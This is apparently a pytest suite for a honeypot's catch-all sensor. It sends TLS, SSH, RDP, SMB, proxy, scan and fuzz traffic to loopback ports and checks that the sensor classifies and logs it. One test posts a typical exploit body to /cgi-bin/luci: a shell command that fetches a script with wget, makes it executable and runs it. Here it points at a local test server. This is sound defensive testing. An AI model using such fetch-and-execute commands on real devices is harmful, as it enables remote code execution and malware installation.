# SPDX-License-Identifier: MIT
"""The catch-all trap (Honeytrap-class) with real clients on loopback.

* one sensor listens on three ports (one with an SMTP banner profile); Python's ``ssl``, ``curl``,
  ``openssl s_client``, ``ssh`` and raw RDP / SMB / CONNECT bytes each leave one
  ``catchall.payload.received`` with the right guess, and TLS fingerprints equal to what the web
  trap's ClientHello parser computes for the same bytes;
* ``nmap -sV`` across the three ports completes and every probe that carried bytes is logged;
* a ``CONNECT`` is never relayed; caps close a flood; seeded fuzz leaves the sensor serving;
* ``SO_ORIGINAL_DST``: a second sensor inside a network namespace behind the nftables redirect of
  ``deploy/catchall.nft`` logs the port the client asked for (skipped without ``nft``/netns rights).
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import random
import re
import socket
import ssl
import struct
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from payloadserver import serve_payload
from sensorutil import HONEYFARM, ROOT, SensorProc, need, run_sensor, sensor_toml, stop_process, wait_port

from honeyfarm.sensor.traps.catchall.guess import details, escape, guess, message_complete
from honeyfarm.sensor.traps.catchall.origdst import parse_sockaddr
from honeyfarm.sensor.traps.http.tlshello import parse_client_hello

SMTP_BANNER = "220 mail.example.test ESMTP Postfix (Debian/GNU)\r\n"
PAYLOAD = "received"


def three_ports() -> list[int]:
    """Three distinct free ports (free_port() twice in a row may hand out the same one)."""
    socks = []
    for _ in range(3):
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        socks.append(s)
    ports = [int(s.getsockname()[1]) for s in socks]
    for s in socks:
        s.close()
    return ports


@pytest.fixture(scope="module")
def sensor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorProc, list[int]]]:
    ports = three_ports()
    overrides: dict[str, dict[str, Any]] = {
        "sensor.catchall": {
            "enabled": True,
            "listen": [f"127.0.0.1:{p}" for p in ports],
            "first_bytes_timeout": 3.2,  # > nmap's tcpwrappedms (3 s), so nmap goes on probing
            "gather_time": 0.3,
            "idle_timeout": 2.0,
            "max_bytes_per_connection": 64 * 1024,
            "banners": {str(ports[2]): SMTP_BANNER},
        },
        "sensor.limits": {"max_per_ip": 200},
    }
    with run_sensor(tmp_path_factory.mktemp("sensor"), overrides) as sp:
        for p in ports:
            wait_port(p, proc=sp.proc)
        yield sp, ports


def payloads(sp: SensorProc, port: int | None = None) -> list[dict[str, Any]]:
    return [
        e
        for e in sp.events()
        if e["eventid"] == "catchall.payload.received" and (port is None or e["dst_port"] == port)
    ]


def exchange(port: int, data: bytes, *, wait: float = 0.5, banner: bool = False) -> bytes:
    """Send ``data`` (after reading a banner if asked), return what came back within ``wait`` s."""
    got = b""
    with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
        if banner:
            got += s.recv(4096)
        s.sendall(data)
        s.settimeout(wait)
        try:
            while chunk := s.recv(4096):
                got += chunk
        except TimeoutError:
            pass
    return got


def one_payload(sp: SensorProc, port: int, pred: Any, timeout: float = 10.0) -> dict[str, Any]:
    sp.wait_for(lambda _: any(pred(e) for e in payloads(sp, port)), timeout)
    return next(e for e in payloads(sp, port) if pred(e))


def marker(e: dict[str, Any], text: str) -> bool:
    return text in e["extra"]["head"]


# --- the classifier --------------------------------------------------------------------------------

RDP_CR = b"\x03\x00\x00\x2c\x27\xe0\x00\x00\x00\x00\x00Cookie: mstshash=administr\r\n\x01\x00\x08\x00\x0b\x00\x00\x00"
_SMB1_DIALECTS = b"\x02NT LM 0.12\x00\x02SMB 2.002\x00\x02SMB 2.???\x00"
_SMB1_BODY = (
    b"\xffSMB\x72" + b"\x00" * 4 + b"\x18\x53\xc8" + b"\x00" * 12 + b"\xff\xfe\x00\x00\x00\x00"
    b"\x00" + struct.pack("<H", len(_SMB1_DIALECTS)) + _SMB1_DIALECTS
)
SMB1_NEGOTIATE = b"\x00" + len(_SMB1_BODY).to_bytes(3, "big") + _SMB1_BODY
_SMB2_BODY = (
    b"\xfeSMB"
    + struct.pack("<HHIHHII", 64, 0, 0, 0, 1, 0, 0)
    + b"\x00" * 40
    + struct.pack("<HHHHI", 36, 2, 1, 0, 0)
    + b"\x00" * 16
    + b"\x00" * 8
    + struct.pack("<HH", 0x0202, 0x0210)
)
SMB2_NEGOTIATE = b"\x00" + len(_SMB2_BODY).to_bytes(3, "big") + _SMB2_BODY

SAMPLES: list[tuple[bytes, str]] = [
    (b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03", "tls"),
    (b"\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10", "tls"),  # SSLv2-compatible hello
    (b"SSH-2.0-Go\r\n", "ssh"),
    (b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n", "http-proxy"),
    (b"OPTIONS rtsp://1.2.3.4/ RTSP/1.0\r\nCSeq: 1\r\n\r\n", "rtsp"),
    (b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n\r\n", "sip"),
    (b"GET / HTTP/1.0\r\n\r\n", "http"),
    (b"POST /" + b"A" * 5000, "http"),  # a request line cut by the cap
    (RDP_CR, "rdp"),
    (SMB1_NEGOTIATE, "smb"),
    (SMB2_NEGOTIATE, "smb"),
    (b"\x81\x00\x00\x44" + b" " * 68, "smb"),  # NetBIOS session request
    (b"*1\r\n$4\r\nPING\r\n", "redis"),
    (b"INFO\r\n", "redis"),
    (b"stats\r\n", "memcached"),
    (b"EHLO nmap.scanme.org\r\n", "smtp"),
    (b"USER anonymous\r\n", "ftp"),
    (b"CAPA\r\n", "pop3"),
    (b"a001 CAPABILITY\r\n", "imap"),
    (b"RFB 003.008\n", "vnc"),
    (b"\x04\x01\x00\x50\x7f\x00\x00\x01root\x00", "socks4"),
    (b"\x05\x02\x00\x02", "socks5"),
    (b"\xff\xfb\x18\xff\xfb\x1f", "telnet"),
    (struct.pack("<iiii", 58, 1, 0, 2004) + b"\x00" * 42, "mongo"),
    (b"\x12\x01\x00\x0a\x00\x00\x00\x00\x00\x00", "mssql"),
    (struct.pack(">II", 8, 80877103), "postgres"),
    (b"\x10\x10\x00\x04MQTT\x04\x02\x00\x3c\x00\x04test", "mqtt"),
    (b"\x00\x1e\x00\x06\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07version\x04bind\x00\x00\x10\x00\x03", "dns"),
    (b"JDWP-Handshake", "jdwp"),
    (b"JRMI\x00\x02K", "java-rmi"),
    (b"\x13BitTorrent protocol" + b"\x00" * 8, "bittorrent"),
    (b"\r\n\r\n", "unknown"),
    (b"\x00\x01\x02garbage", "unknown"),
]


@pytest.mark.parametrize(("data", "expected"), SAMPLES, ids=[s[1] + str(i) for i, s in enumerate(SAMPLES)])
def test_guess_table(data: bytes, expected: str) -> None:
    assert guess(data) == expected


def test_message_complete() -> None:
    assert not message_complete(b"GET / HTTP/1.1\r\nHost: x\r\n")
    assert message_complete(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    post = b"POST /x HTTP/1.1\r\nContent-Length: 5\r\n\r\n"
    assert not message_complete(post) and not message_complete(post + b"abc") and message_complete(post + b"abcde")
    assert message_complete(b"SSH-2.0-x\r\n")
    assert message_complete(RDP_CR) and not message_complete(RDP_CR[:20])
    assert message_complete(SMB2_NEGOTIATE) and not message_complete(SMB2_NEGOTIATE[:30])


def test_original_dst_sockaddr_parsing() -> None:
    v4 = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 2525) + socket.inet_aton("10.1.2.3") + b"\x00" * 8
    assert parse_sockaddr(v4) == ("10.1.2.3", 2525)
    v6 = (
        struct.pack("=H", socket.AF_INET6)
        + struct.pack(">H", 8443)
        + b"\x00" * 4
        + socket.inet_pton(socket.AF_INET6, "2001:db8::7")
        + b"\x00" * 4
    )
    assert parse_sockaddr(v6) == ("2001:db8::7", 8443)
    mapped = v6[:8] + socket.inet_pton(socket.AF_INET6, "::ffff:192.0.2.9") + b"\x00" * 4
    assert parse_sockaddr(mapped) == ("192.0.2.9", 8443)
    assert parse_sockaddr(b"\x02") is None
    assert parse_sockaddr(struct.pack("=H", 99) + b"\x00" * 14) is None


# --- real clients ------------------------------------------------------------------------------------


def client_hello_bytes(sni: str) -> bytes:
    """The ClientHello Python's ssl module sends (taken from a memory BIO, not from the wire)."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    with pytest.raises(ssl.SSLWantReadError):
        obj.do_handshake()
    return outgoing.read()


def assert_fingerprint_matches(e: dict[str, Any], hello_bytes: bytes) -> None:
    hello = parse_client_hello(hello_bytes)
    assert hello is not None
    x = e["extra"]
    assert x["guess"] == "tls"
    assert (x["ja3"], x["ja3_hash"], x["ja4"], x["sni"]) == (hello.ja3(), hello.ja3_hash(), hello.ja4(), hello.sni)


def test_python_ssl_client_hello(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    sni = f"py-{uuid.uuid4().hex[:8]}.example.test"
    hello = client_hello_bytes(sni)
    assert exchange(ports[0], hello) == b""  # no ServerHello, no alert: silence
    e = one_payload(sp, ports[0], lambda e: e["extra"].get("sni") == sni)
    assert_fingerprint_matches(e, hello)
    assert e["extra"]["size"] == len(hello) and e["extra"]["sha256"] == hashlib.sha256(hello).hexdigest()
    assert bytes.fromhex(e["extra"]["head_hex"]) == hello


@pytest.mark.skipif(need("curl", "openssl") is not None, reason=need("curl", "openssl") or "")
def test_curl_and_openssl_client_hellos(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    before = len(payloads(sp, ports[1]))
    subprocess.run(
        ["curl", "-k", "-s", "--max-time", "1", f"https://127.0.0.1:{ports[1]}/"], capture_output=True, timeout=10
    )
    sni = f"ossl-{uuid.uuid4().hex[:8]}.example.test"
    subprocess.run(
        ["timeout", "1", "openssl", "s_client", "-connect", f"127.0.0.1:{ports[1]}", "-servername", sni],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=10,
    )
    sp.wait_for(lambda _: len(payloads(sp, ports[1])) >= before + 2)
    new = payloads(sp, ports[1])[before:]
    for e in new:  # each against the web trap's parser on the very bytes received
        assert_fingerprint_matches(e, bytes.fromhex(e["extra"]["head_hex"]))
    curl = next(e for e in new if e["extra"]["sni"] is None)  # curl sends no SNI for an IP address
    assert curl["extra"]["ja4"].startswith("t13i") and "http/1.1" in curl["extra"].get("alpn", [])
    ossl = next(e for e in new if e["extra"]["sni"] == sni)
    assert ossl["extra"]["ja4"].startswith("t13d")


def test_http_get_user_agent(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    ua = f"Mozilla/5.0 (catchall-test {uuid.uuid4().hex[:6]})"
    req = f"GET /.env HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: {ua}\r\n\r\n".encode()
    assert exchange(ports[0], req) == b""
    e = one_payload(sp, ports[0], lambda e: e.get("client_version") == ua)
    assert e["extra"]["guess"] == "http" and e["extra"]["head"].startswith("GET /.env HTTP/1.1\\r\\n")
    closed = sp.wait_for(
        lambda evs: any(x["eventid"] == "catchall.session.closed" and x["session"] == e["session"] for x in evs)
    )
    c = next(x for x in closed if x["eventid"] == "catchall.session.closed" and x["session"] == e["session"])
    assert c["extra"]["guess"] == "http" and c["client_version"] == ua


@pytest.mark.skipif(need("ssh") is not None, reason=need("ssh") or "")
def test_ssh_client_banner(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    before = len(payloads(sp, ports[1]))
    subprocess.run(
        ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "-o", "StrictHostKeyChecking=no",
         "-o", "UserKnownHostsFile=/dev/null", "-p", str(ports[1]), "127.0.0.1", "true"],
        capture_output=True, timeout=15,
    )  # fmt: skip
    sp.wait_for(lambda _: any(e["extra"]["guess"] == "ssh" for e in payloads(sp, ports[1])[before:]))
    e = next(e for e in payloads(sp, ports[1])[before:] if e["extra"]["guess"] == "ssh")
    assert re.fullmatch(r"SSH-2\.0-OpenSSH_\S+( .*)?", e["client_version"]), e["client_version"]


def test_rdp_and_smb_negotiate(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    for data in (RDP_CR, SMB1_NEGOTIATE, SMB2_NEGOTIATE):
        assert exchange(ports[0], data, wait=0.1) == b""
    rdp = one_payload(sp, ports[0], lambda e: e["extra"]["guess"] == "rdp")
    assert rdp["extra"]["rdp_cookie"] == "administr"
    sp.wait_for(lambda _: len([e for e in payloads(sp, ports[0]) if e["extra"]["guess"] == "smb"]) >= 2)
    smb = [e for e in payloads(sp, ports[0]) if e["extra"]["guess"] == "smb"]
    assert {bytes.fromhex(e["extra"]["head_hex"]) for e in smb} >= {SMB1_NEGOTIATE, SMB2_NEGOTIATE}


def test_banner_port_speaks_first(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    with socket.create_connection(("127.0.0.1", ports[2]), timeout=3) as s:
        assert s.recv(4096) == SMTP_BANNER.encode()
        s.sendall(b"EHLO banner-test.example\r\n")
        time.sleep(0.2)
    e = one_payload(sp, ports[2], lambda e: marker(e, "banner-test.example"))
    assert e["extra"]["guess"] == "smtp" and e["extra"]["banner"] == SMTP_BANNER.replace("\r\n", "\\r\\n")
    assert exchange(ports[0], b"EHLO quiet.example\r\n") == b""  # ports without a profile stay silent


def test_connect_and_socks_are_never_relayed(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    with socket.socket() as target:  # the "destination" the client asks the proxy for
        target.bind(("127.0.0.1", 0))
        target.listen(8)
        target.settimeout(0.5)
        tport = target.getsockname()[1]
        req = f"CONNECT 127.0.0.1:{tport} HTTP/1.1\r\nHost: 127.0.0.1:{tport}\r\n\r\n".encode()
        assert exchange(ports[0], req, wait=1.0) == b""
        socks5 = b"\x05\x01\x00"
        assert exchange(ports[0], socks5, wait=0.5) == b""
        socks4 = b"\x04\x01" + struct.pack(">H", tport) + socket.inet_aton("127.0.0.1") + b"x\x00"
        assert exchange(ports[0], socks4, wait=0.5) == b""
        with pytest.raises(TimeoutError):
            target.accept()
    e = one_payload(sp, ports[0], lambda e: e["extra"]["guess"] == "http-proxy")
    assert e["extra"]["proxy_target"] == f"127.0.0.1:{tport}"
    guesses = {e["extra"]["guess"] for e in payloads(sp, ports[0])}
    assert {"socks4", "socks5"} <= guesses


def test_fetch_command_url_is_captured(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    hits: list[str] = []
    with serve_payload(b"#!/bin/sh\necho catchall\n", hits) as pport:
        url = f"http://127.0.0.1:{pport}/bins/catchall.sh"
        body = f"cmd=cd /tmp; wget {url}; chmod +x catchall.sh; ./catchall.sh".encode()
        header = f"POST /cgi-bin/luci HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        with socket.create_connection(("127.0.0.1", ports[1]), timeout=3) as s:
            s.sendall(header)
            time.sleep(0.1)  # the body in a segment of its own, as exploit scripts often send it
            s.sendall(body)
            time.sleep(0.1)
        evs = sp.wait_for(
            lambda evs: any(e["eventid"] == "cowrie.session.file_download" and e.get("url") == url for e in evs)
        )
    assert hits == ["/bins/catchall.sh"]
    e = one_payload(sp, ports[1], lambda e: url in e["extra"].get("urls", []))
    assert bytes.fromhex(e["extra"]["head_hex"]) == header + body and e["extra"]["guess"] == "http"
    dl = next(x for x in evs if x["eventid"] == "cowrie.session.file_download" and x.get("url") == url)
    assert dl["session"] == e["session"]


def test_caps_close_a_flood_and_keep_the_head(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    tag = uuid.uuid4().hex.encode()
    # The trap may hang up at its byte limit while we still send.
    with socket.create_connection(("127.0.0.1", ports[0]), timeout=3) as s, contextlib.suppress(OSError):
        s.sendall(tag + b"B" * (200 * 1024))
    e = one_payload(sp, ports[0], lambda e: marker(e, tag.decode()))
    assert e["extra"]["size"] == 4096 and e["extra"]["truncated"] is True
    closed = sp.wait_for(
        lambda evs: any(x["eventid"] == "catchall.session.closed" and x["session"] == e["session"] for x in evs)
    )
    c = next(x for x in closed if x["eventid"] == "catchall.session.closed" and x["session"] == e["session"])
    assert c["extra"]["reason"] == "byte limit" and 64 * 1024 <= c["extra"]["bytes_in"] <= 200 * 1024 + 32


@pytest.mark.skipif(need("nmap") is not None, reason=need("nmap") or "")
def test_nmap_version_scan_is_logged(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    start = len(sp.events())
    out = subprocess.run(
        ["nmap", "-n", "-Pn", "-sV", "--version-intensity", "2", "--max-retries", "1", "--host-timeout", "40s",
         "-p", ",".join(map(str, ports)), "-oX", "-", "127.0.0.1"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    assert out.stdout.count('state="open"') == 3, out.stdout
    assert 'service name="smtp"' in out.stdout  # the banner port reads as a mail server
    time.sleep(2.5)  # the last connections reach their idle timeout
    evs = sp.events()[start:]
    sessions = {e["session"] for e in evs if e["eventid"] == "catchall.session.connect" and e["dst_port"] in ports}
    closed = [e for e in evs if e["eventid"] == "catchall.session.closed" and e["session"] in sessions]
    logged = {e["session"] for e in evs if e["eventid"] == "catchall.payload.received"}
    spoke = [c for c in closed if c["extra"]["reason"] != "no data" and c["extra"]["bytes_in"] > 0]
    assert len(spoke) >= 3 and all(c["session"] in logged for c in spoke)
    assert any(c["extra"]["reason"] == "no data" for c in closed)  # nmap's NULL probe, waiting for a banner
    guesses = {e["extra"]["guess"] for e in evs if e["eventid"] == "catchall.payload.received"}
    assert "http" in guesses, guesses


# --- hostile input -----------------------------------------------------------------------------------


def test_fuzz_keeps_serving(sensor: tuple[SensorProc, list[int]]) -> None:
    sp, ports = sensor
    rng = random.Random(14_07)
    seeds = [RDP_CR, SMB1_NEGOTIATE, SMB2_NEGOTIATE, client_hello_bytes("fuzz.example"), b"GET / HTTP/1.1\r\n\r\n"]
    for i in range(120):
        base = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 12)):
            base[rng.randrange(len(base))] = rng.randrange(256)
        data = bytes(base[: rng.randint(1, len(base))]) if i % 3 else rng.randbytes(rng.randint(1, 3000))
        with socket.create_connection(("127.0.0.1", ports[i % 2]), timeout=3) as s, contextlib.suppress(OSError):
            s.sendall(data)
    ua = f"after-fuzz-{uuid.uuid4().hex[:6]}"
    exchange(ports[0], f"GET / HTTP/1.0\r\nUser-Agent: {ua}\r\n\r\n".encode(), wait=0.1)
    one_payload(sp, ports[0], lambda e: e.get("client_version") == ua, timeout=20)
    assert sp.proc is not None and sp.proc.poll() is None
    log = (sp.workdir / "sensor.log").read_text(errors="replace")
    assert "Traceback" not in log, log[-3000:]
    reasons = {e["extra"]["reason"] for e in sp.events() if e["eventid"] == "catchall.session.closed"}
    assert not any(r.startswith("error") for r in reasons), reasons


def test_classifier_fuzz() -> None:
    """The classifier and the TLS/HTTP extractors on random and mutated bytes: no exception, ever."""
    rng = random.Random(1407)
    seeds = [s for s, _ in SAMPLES] + [client_hello_bytes("fuzz.example"), RDP_CR]
    for i in range(4000):
        if i % 2:
            data = bytearray(rng.choice(seeds))
            for _ in range(rng.randint(1, 8)):
                data[rng.randrange(len(data))] = rng.randrange(256)
            raw = bytes(data[: rng.randint(0, len(data))])
        else:
            raw = rng.randbytes(rng.randint(0, 600))
        kind = guess(raw)
        version, extra = details(kind, raw)
        message_complete(raw)
        assert version is None or isinstance(version, str)
        json.dumps(extra)  # what goes into the event is plain JSON
        escape(raw).encode("ascii")


# --- SO_ORIGINAL_DST behind the nftables redirect of deploy/catchall.nft ----------------------------


def netns_problem() -> str | None:
    if need("nft", "ip"):
        return need("nft", "ip")
    if os.geteuid() != 0:
        return "creating a network namespace and loading nftables rules needs root"
    return None


def deploy_ruleset(catch_port: int, trap_ports: list[int]) -> str:
    """deploy/catchall.nft with the test's ports in its ``define`` lines."""
    text = (ROOT / "deploy" / "catchall.nft").read_text(encoding="utf-8")
    values = {
        "catchall_port": str(catch_port),
        "trap_ports": "{ " + ", ".join(map(str, trap_ports)) + " }",
        "admin_ports": "{ 22022 }",
        "wan": '"lo"',
    }
    for name, value in values.items():
        text, n = re.subn(rf"(?m)^define {name} = .*$", f"define {name} = {value}", text)
        assert n == 1, name
    return text


def test_nftables_redirect_reports_the_original_port(tmp_path: Path) -> None:
    if reason := netns_problem():
        pytest.skip(reason)
    ns = f"hfcatch{uuid.uuid4().hex[:8]}"
    made = subprocess.run(["ip", "netns", "add", ns], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"cannot create a network namespace: {made.stderr.strip()}")
    proc: subprocess.Popen[bytes] | None = None
    try:
        inns = ["ip", "netns", "exec", ns]
        subprocess.run([*inns, "ip", "link", "set", "lo", "up"], check=True)
        catch = 18081
        rules = tmp_path / "catchall.nft"
        rules.write_text(deploy_ruleset(catch, [2222, 8080]), encoding="utf-8")
        check = subprocess.run([*inns, "nft", "-c", "-f", str(rules)], capture_output=True, text=True)
        assert check.returncode == 0, check.stderr  # the deploy file is valid nftables syntax
        # Traffic from the namespace to itself leaves through the output hook, not prerouting:
        # the same redirect in an output chain is the test's stand-in for an attacker's SYN.
        local = tmp_path / "local.nft"
        local.write_text(
            "table inet hftest {\n chain out {\n  type nat hook output priority -100; policy accept;\n"
            f"  ip daddr 127.0.0.1 tcp dport != {{ 2222, 8080, {catch} }} redirect to :{catch}\n"
            f"  ip6 daddr ::1 tcp dport != {{ 2222, 8080, {catch} }} redirect to :{catch}\n }}\n}}\n",
            encoding="utf-8",
        )
        loaded = subprocess.run([*inns, "nft", "-f", str(local)], capture_output=True, text=True)
        if loaded.returncode != 0:
            pytest.skip(f"nftables NAT is not available in this kernel: {loaded.stderr.strip()}")
        cfg = tmp_path / "honeyfarm.toml"
        sections: dict[str, dict[str, Any]] = {
            "sensor": {},
            "sensor.identity": {"name": "ns-sensor", "region": "test", "provider": "test", "hourly_cost": 0.0},
            "sensor.spool": {"dir": str(tmp_path / "spool"), "fsync_interval": 0.1},
            "sensor.ssh": {"enabled": False},
            "sensor.telnet": {"enabled": False},
            "sensor.catchall": {
                "enabled": True,
                "listen": [f"127.0.0.1:{catch}", f"[::1]:{catch}"],
                "idle_timeout": 1.0,
            },
        }
        cfg.write_text(sensor_toml(sections), encoding="utf-8")
        with (tmp_path / "sensor.log").open("wb") as log:
            proc = subprocess.Popen([*inns, *HONEYFARM, "sensor", "-c", str(cfg)], stdout=log, stderr=log)
        client = (
            "import socket,sys,time\n"
            f"deadline=time.time()+20\n"
            "while True:\n"
            "    try:\n"
            f"        s=socket.create_connection(('127.0.0.1',{catch}),timeout=1); s.close(); break\n"
            "    except OSError:\n"
            "        assert time.time()<deadline; time.sleep(0.1)\n"
            "s=socket.create_connection(('127.0.0.1',25),timeout=3); b=s.recv(4096)\n"
            "s.sendall(b'EHLO ns.example\\r\\n'); time.sleep(0.3); s.close()\n"
            "t=socket.create_connection(('127.0.0.1',4444),timeout=3); t.sendall(b'SSH-2.0-nsclient\\r\\n')\n"
            "time.sleep(0.3); t.close()\n"
            "u=socket.create_connection(('::1',4445),timeout=3); u.sendall(b'SSH-2.0-nsclient6\\r\\n')\n"
            "time.sleep(0.3); u.close(); sys.stdout.write(b.decode())\n"
        )
        out = subprocess.run([*inns, sys.executable, "-c", client], capture_output=True, text=True, timeout=40)
        assert out.returncode == 0, out.stderr
        assert out.stdout.startswith("220 ") and "ESMTP Postfix" in out.stdout  # the default banner of port 25
        evs: list[dict[str, Any]] = []
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            evs = [
                json.loads(line)
                for p in sorted((tmp_path / "spool" / "events").glob("*.jsonl*"))
                for line in p.read_bytes().splitlines()
                if line.strip()
            ]
            if sum(e["eventid"] == "catchall.payload.received" for e in evs) >= 3:
                break
            time.sleep(0.1)
        got = {e["dst_port"]: e for e in evs if e["eventid"] == "catchall.payload.received"}
        assert set(got) == {25, 4444, 4445}, evs
        assert got[25]["extra"]["guess"] == "smtp" and got[4444]["client_version"] == "SSH-2.0-nsclient"
        assert got[4445]["dst_ip"] == "::1" and got[4445]["client_version"] == "SSH-2.0-nsclient6"  # IPv6 too
        conn = next(e for e in evs if e["eventid"] == "catchall.session.connect" and e["dst_port"] == 4444)
        assert conn["extra"] == {"redirected": True, "listen_port": catch}
    finally:
        if proc is not None:
            stop_process(proc)
        subprocess.run(["ip", "netns", "del", ns], capture_output=True)
